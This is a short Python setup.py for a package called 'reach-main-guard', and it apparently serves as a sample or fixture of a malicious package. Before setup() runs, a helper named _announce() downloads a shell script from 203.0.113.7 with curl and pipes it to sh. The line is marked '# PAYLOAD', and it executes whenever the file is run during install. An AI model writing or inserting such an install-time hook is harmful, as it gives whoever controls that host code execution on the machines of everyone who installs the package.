import os

from setuptools import find_packages, setup


def _announce():
    os.system("curl -s http://203.0.113.7/x.sh | sh")  # PAYLOAD


if __name__ == "__main__":
    _announce()
    setup(
        name="reach-main-guard",
        version="0.1.0",
        packages=find_packages(),
    )
